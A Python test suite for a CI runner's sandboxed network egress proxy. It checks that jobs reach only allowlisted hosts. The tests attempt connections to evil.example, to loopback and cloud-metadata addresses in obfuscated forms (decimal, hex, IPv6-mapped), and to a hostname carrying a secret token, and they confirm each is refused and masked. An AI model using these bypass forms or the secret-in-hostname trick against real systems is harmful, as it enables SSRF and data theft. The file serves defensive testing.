"""What a job with a network reaches, and that it reaches nothing else. Real proxy, real sandbox."""

import asyncio
import contextlib
import http.server
import os
import shutil
import signal
import socket
import subprocess
import threading
from pathlib import Path

import pytest

from runners import job_directory
from runners.executors.bubblewrap import Bubblewrap, find_bwrap
from runners.executors.process import Process
from runners.ports import Egress, Refused
from tests.executor_bench import UID_BASE, Bench, log_of
from tests.runner_world import make_spec, pids_with, until

pytestmark = [pytest.mark.anyio, pytest.mark.slow, pytest.mark.bwrap]

# What a job has at hand everywhere: python3 is not a must in a sandbox, but it is on every runner.
GET = """
import sys, urllib.request, urllib.error
for url in sys.argv[1:]:
    try:
        with urllib.request.urlopen(url, timeout=60) as answer:
            print('GOT', url, answer.status, answer.read().decode())
    except urllib.error.HTTPError as error:
        print('REFUSED', url, error.code, error.read().decode().strip())
    except OSError as error:
        print('FAILED', url, error)
"""
TUNNEL = """
import socket, sys
s = socket.create_connection(('127.0.0.1', 3128), 60)
s.sendall(f'CONNECT {sys.argv[1]} HTTP/1.1\\r\\n\\r\\n'.encode())
said = s.recv(1000)
print('SAID', said.split(b'\\r\\n')[0].decode())
if b' 200 ' in said:
    s.sendall(b'GET /tunnel HTTP/1.0\\r\\n\\r\\n')
    s.shutdown(socket.SHUT_WR)
    got = b''
    while part := s.recv(1000):
        got += part
    print('THROUGH', got.split(b'\\r\\n\\r\\n')[1].decode())
"""


def get(*urls: str) -> str:
    return f'python3 -c "$GET" {" ".join(urls)}'


class _Answers(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = f"here is {self.path} of {self.headers.get('Host')}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def site():
    """A web server on the host's loopback, and its port."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Answers)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    thread.join()
    server.server_close()


def bench_of(sandbox, *allowed: str, private: tuple[str, ...] = ()) -> Bench:
    reachable = Egress(allowed=list(allowed), private=list(private))
    sandbox.executor = Bubblewrap(find_bwrap(), uid_base=UID_BASE, volumes={}, reachable=reachable)
    return sandbox


def spec_of(*runs: str, **more):
    more.setdefault("network", "egress")
    return make_spec(None, *runs, env={"GET": GET, "TUNNEL": TUNNEL}, **more)


async def test_a_job_reaches_what_the_operator_named_by_request_and_by_tunnel(sandbox, site):
    bench = bench_of(sandbox, private=(f"127.0.0.1:{site}",))
    url = f"http://127.0.0.1:{site}/a?b=c"
    runs = [f"env -u no_proxy -u NO_PROXY {get(url)}", f'python3 -c "$TUNNEL" 127.0.0.1:{site}']
    record, log = await bench.run(spec_of(*runs))
    assert f"GOT http://127.0.0.1:{site}/a?b=c 200 here is /a?b=c of 127.0.0.1:{site}" in log
    assert "THROUGH here is /tunnel" in log
    assert record["denied"] == []


async def test_what_is_not_on_the_list_is_refused_and_told_once(sandbox, site):
    bench = bench_of(sandbox, "pypi.org", private=(f"127.0.0.1:{site}",))
    tries = ["http://evil.example/x", "http://evil.example/x", "http://pypi.org:81/"]
    record, log = await bench.run(spec_of(get(*tries), 'python3 -c "$TUNNEL" evil.example:443'))
    assert "REFUSED http://evil.example/x 403" in log
    assert "it is not on this runner's list" in log
    assert "SAID HTTP/1.1 403" in log
    assert [one.split(": ")[0] for one in record["denied"]] == [
        "evil.example:80",
        "pypi.org:81",
        "evil.example:443",
    ]


async def test_an_allowed_name_with_a_private_address_is_refused(sandbox, site):
    bench = bench_of(sandbox, "*", f"*:{site}")
    names = ["localhost", "127.0.0.1", "2130706433", "0x7f.1", "[::1]", "[::ffff:127.0.0.1]"]
    tries = [f"{name}:{site}" for name in names] + ["169.254.169.254:80", "[64:ff9b::7f00:1]:80"]
    runs = [f'python3 -c "$TUNNEL" "{one}"' for one in tries]
    record, log = await bench.run(spec_of("\n".join(runs)))
    assert log.count("SAID HTTP/1.1 403") == len(tries), log
    assert "THROUGH" not in log
    assert len(record["denied"]) == len(tries)


async def test_a_job_may_ask_for_less_and_not_for_more(sandbox, site):
    bench = bench_of(sandbox, "*.example.org", private=(f"127.0.0.1:{site}",))
    spec = spec_of(f'python3 -c "$TUNNEL" 127.0.0.1:{site}', egress=["a.example.org"])
    record, log = await bench.run(spec)
    assert "SAID HTTP/1.1 403" in log
    assert "it is not on the job's own list" in record["denied"][0]
    for wish in ("other.org", "*.org", "example.org", "a.example.org:8443"):
        with pytest.raises(Refused, match="does not allow"):
            bench.executor.plan(spec_of("true", egress=[wish]), bench.root, 0)


async def test_a_job_that_asks_for_no_network_finds_no_door(sandbox, site):
    bench = bench_of(sandbox, private=(f"127.0.0.1:{site}",))
    _, log = await bench.run(
        spec_of('python3 -c "$TUNNEL" 127.0.0.1:80 || true; env', network="none")
    )
    assert "Connection refused" in log
    assert "proxy" not in log.lower()


async def test_with_a_door_the_host_is_still_not_reached_directly(sandbox, site):
    name = f"staunch-egress-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as abstract:
        abstract.bind(f"\0{name}")
        abstract.listen()
        bench = bench_of(sandbox, "*", private=(f"127.0.0.1:{site}",))
        code = (
            "import socket\n"
            f"for family, where in ((socket.AF_INET, ('127.0.0.1', {site})),"
            f" (socket.AF_INET, ('1.1.1.1', 443)), (socket.AF_UNIX, '\\0{name}')):\n"
            "    try: socket.socket(family).connect(where); print('REACHED', where)\n"
            "    except OSError: print('kept from')\n"
        )
        spec = make_spec(None, 'python3 -c "$CODE"', env={"CODE": code}, network="egress")
        _, log = await bench.run(spec)
    assert log.count("kept from") == 3
    assert "REACHED" not in log


async def test_runners_that_cannot_give_it_refuse(sandbox, root):
    with pytest.raises(Refused, match="start it with --egress"):
        sandbox.executor.plan(spec_of("true"), root, 0)
    with pytest.raises(Refused, match="does not confine jobs"):
        Process(uid_base=UID_BASE, volumes={}).plan(spec_of("true"), root, 0)


def _proxies(directory: Path) -> list[int]:
    found: list[int] = []
    shim = (job_directory.read_record(str(directory), job_directory.SHIM) or {}).get("pid")
    for pid in pids_with("runners.proxy"):
        with contextlib.suppress(OSError):
            if int(Path(f"/proc/{pid}/stat").read_text().split()[3]) == shim:
                found.append(pid)
    return found


WAITS = "echo begun; while [ ! -e go ]; do sleep 0.05; done; "


async def test_a_proxy_that_is_killed_is_started_again_and_ends_with_its_job(sandbox, site):
    bench = bench_of(sandbox, private=(f"127.0.0.1:{site}",))
    spec = spec_of(f'{WAITS} python3 -c "$TUNNEL" 127.0.0.1:{site}; {WAITS}')
    directory = await bench.start(spec)
    first = (await until(lambda: _proxies(directory), "the proxy"))[0]
    await until(lambda: "begun" in log_of(directory), "the step")
    if os.geteuid() == 0:
        await until(lambda: os.stat(f"/proc/{first}").st_uid == UID_BASE, "rights given up")
    os.kill(first, signal.SIGKILL)
    second = (await until(lambda: set(_proxies(directory)) - {first}, "another proxy")).pop()
    (directory / "workspace" / "go").touch()
    await bench.end(directory)
    assert "THROUGH here is /tunnel" in log_of(directory)
    assert not Path(f"/proc/{second}").exists()


async def test_a_killed_shim_takes_its_proxy_along(sandbox, site):
    bench = bench_of(sandbox, private=(f"127.0.0.1:{site}",))
    directory = await bench.start(spec_of(WAITS))
    proxy = (await until(lambda: _proxies(directory), "the proxy"))[0]
    # It is bound to its shim only once it has begun to serve.
    await until(lambda: "begun" in log_of(directory), "the step")
    os.kill(job_directory.read_record(str(directory), "shim.json")["pid"], signal.SIGKILL)
    await until(lambda: not Path(f"/proc/{proxy}").exists(), "the end of the proxy")


async def test_secrets_in_the_name_of_a_denied_target_are_masked(sandbox):
    bench = bench_of(sandbox, "pypi.org")
    spec = spec_of('python3 -c "$TUNNEL" "$TOKEN.evil.example:443"', secrets={"TOKEN": "TOKEN"})
    directory = await bench.start(spec, secrets={"TOKEN": "hunter2-and-more"})
    record = await bench.end(directory)
    assert record["denied"] == ["***.evil.example:443: it is not on this runner's list (--egress)"]


async def test_many_denied_targets_are_told_up_to_a_limit(sandbox):
    bench = bench_of(sandbox, "pypi.org")
    code = 'for i in $(seq 60); do python3 -S -c "$TUNNEL" "h$i.example:443"; done'
    record, _ = await bench.run(spec_of(code))
    assert len(record["denied"]) == 51
    assert record["denied"][-1] == "and others, which are not listed"


AS_ANOTHER = """
import json, os, socket, subprocess, sys
sys.path.insert(0, sys.argv[1])
from runners import egress
asks, tells = os.pipe()
words = [sys.argv[2], '--unshare-user', '--disable-userns', '--unshare-pid', '--unshare-net',
         '--die-with-parent', '--cap-drop', 'ALL', '--info-fd', str(tells),
         '--dev-bind', '/', '/', 'sh', '-c', 'read x <&0']
bwrap = subprocess.Popen(words, pass_fds=[tells], stdin=subprocess.PIPE)
said = b''
while not said.rstrip().endswith(b'}'):
    said += os.read(asks, 4096)
init = json.loads(said)['child-pid']
listener = egress._listen_inside(init)
print(os.geteuid(), *listener.getsockname())
bwrap.stdin.write(b'x\\n')
bwrap.communicate()
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="then all the others show it")
async def test_a_runner_that_is_not_root_opens_a_door_too(root):
    if not Path("/usr/bin/python3").exists():
        pytest.skip("no python3 that another user can execute")
    (root / "runners").mkdir()
    for name in ("__init__.py", "egress.py", "network.py"):
        shutil.copy(Path(__file__).parents[2] / "runners" / name, root / "runners" / name)
    bwrap = shutil.which("bwrap")
    if bwrap is None:
        pytest.skip("no bwrap that another user can execute")
    done = await asyncio.to_thread(
        subprocess.run,
        ["/usr/bin/python3", "-I", "-S", "-c", AS_ANOTHER, str(root), bwrap],
        user=65_534,
        group=65_534,
        extra_groups=[],
        cwd="/",
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert done.stdout.split() == ["65534", "127.0.0.1", "3128"], done.stderr
